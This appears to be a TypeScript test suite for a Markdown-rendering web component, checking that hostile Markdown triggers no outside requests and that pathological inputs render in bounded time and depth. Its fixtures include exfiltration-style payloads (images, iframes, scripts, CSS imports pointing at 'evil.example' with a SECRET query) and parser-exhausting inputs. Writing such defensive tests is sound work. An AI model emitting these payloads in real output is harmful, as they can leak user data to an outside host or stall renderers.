import { expect, mount } from '../testing/fixture.ts';
import { createDocument, renderComplete, renderInPieces } from '../testing/markdown.ts';
import '../../define-all.ts';

const evilUrl = 'https://evil.example/?q=SECRET';
const resourceTexts = [
  `![x](${evilUrl})`,
  `![x][r]\n\n[r]: ${evilUrl}`,
  `![${evilUrl}](${evilUrl} "${evilUrl}")`,
  `<img src="${evilUrl}">`,
  `<svg><image href="${evilUrl}"/></svg>`,
  `<div style="background:url(${evilUrl})">x</div>`,
  `<style>@import "${evilUrl}";</style>`,
  `<iframe src="${evilUrl}"></iframe><script src="${evilUrl}"></script>`,
  `<link rel=icon href="${evilUrl}">`,
  `[![x](${evilUrl})](${evilUrl})`,
  `${evilUrl} <${evilUrl}>`,
  `| ![x](${evilUrl}) |\n|---|\n| ![y](${evilUrl}) |`,
];

const repeat = (text: string, length = 200_000) => text.repeat(Math.ceil(length / text.length));
/** Long texts that are expensive for naive parsers. */
const expensiveTexts: Record<string, string> = {
  blockquotes: repeat('> '),
  brackets: repeat('['),
  'closed brackets': `${repeat('[', 100_000)}${repeat(']', 100_000)}`,
  asterisks: repeat('*'),
  'opening asterisks': repeat('*a '),
  'opening and closing delimiters': repeat('*a_b'),
  backticks: repeat('`'),
  'backticks of all lengths': Array.from({ length: 600 }, (_, i) => `${'`'.repeat(i)}a`).join(''),
  'incomplete links': repeat('[a](<b'),
  'incomplete tags': repeat('<a '),
  'incomplete definitions': repeat('[a\n'),
  dollars: repeat('$'),
  'opening dollars': repeat('$a '),
  'openings of formulas': repeat('\\('),
  formulas: repeat('$a$ '),
  footnotes: repeat('[^1]: ', 20_000),
  'footnote references': `[^1]: a\n\n${repeat('[^1]')}`,
  'list markers': repeat('- '),
  'short rows under many columns': `${'|a'.repeat(60)}\n${'|-'.repeat(60)}|\n${repeat('|\n', 20_000)}`,
};

const depthOf = (element: Element): number =>
  1 + Math.max(0, ...[...element.children].map((child) => depthOf(child)));

describe('hostile Markdown', () => {
  it('D01: causes no request to a host that is not allowed', async () => {
    const before = performance.getEntriesByType('resource').length;
    const element = mount(document.createElement('inlay-markdown'));
    element.text = resourceTexts.join('\n\n');
    await element.updateComplete;

    const root = element.shadowRoot;
    expect(root?.querySelector('img, svg, iframe, script, link, object, [style], [src]')).to.equal(
      null,
    );
    expect(root?.querySelectorAll('style').length ?? 0).to.equal(0);
    const requests = performance.getEntriesByType('resource').slice(before);
    expect(requests.filter((entry) => entry.name.includes('evil'))).to.deep.equal([]);
    expect(root?.textContent).to.contain('<script src=');
  });

  for (const [name, text] of Object.entries(expensiveTexts)) {
    it(`is rendered in bounded time and depth if it consists of ${name}`, () => {
      const started = performance.now();
      const content = renderComplete(text);

      expect(depthOf(content)).to.be.below(120);
      // A busy machine needs far less time, and a quadratic algorithm needs far more.
      expect(performance.now() - started).to.be.below(20_000);
    });
  }

  it('is rendered in bounded time for each piece of a stream of opening delimiters', () => {
    const text = repeat('*a ');
    const { document } = createDocument();
    let slowest = 0;
    for (let end = 8_000; end <= text.length; end += 8_000) {
      const started = performance.now();
      document.update(text.slice(0, end), true);
      slowest = Math.max(slowest, performance.now() - started);
    }

    expect(slowest).to.be.below(20_000);
  });

  it('is plain text after a million characters', () => {
    const content = renderComplete(`${'word '.repeat(200_000)}**beyond**`);

    expect(content.querySelector('[part=plain]')?.textContent).to.equal('**beyond**');
    expect(content.querySelector('strong')).to.equal(null);
  });

  it('has the same result beyond the limits whether it streams or is complete', () => {
    const text = repeat('- a\n', 84_000);

    expect(renderInPieces(text, [9_973]).innerHTML).to.equal(renderComplete(text).innerHTML);
  });
});
